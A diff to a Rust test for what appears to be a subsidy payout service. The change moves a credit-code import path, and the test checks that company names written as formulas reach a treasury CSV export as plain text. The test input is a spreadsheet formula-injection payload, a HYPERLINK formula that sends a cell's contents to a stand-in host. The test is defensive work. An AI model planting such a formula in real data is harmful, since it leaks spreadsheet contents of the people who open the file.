@@ -624,7 +624,7 @@ async fn no_batch_past_the_payout_deadline_or_beyond_the_budget() {
 async fn names_typed_as_formulas_reach_the_treasury_csv_as_text() {
     let app = TestApp::spawn().await;
     let company = app.with_token(&app.token(json!({"sub": "formula-company", "name": "经办人"})));
-    let code = subsidy_core::credit_code::CreditCode::with_check_character("91440300MA5D00029").unwrap();
+    let code = subsidy_core::company::credit_code::CreditCode::with_check_character("91440300MA5D00029").unwrap();
     let name = r#"=HYPERLINK("http://x/?"&G6,"详情")"#;
     company
         .put(
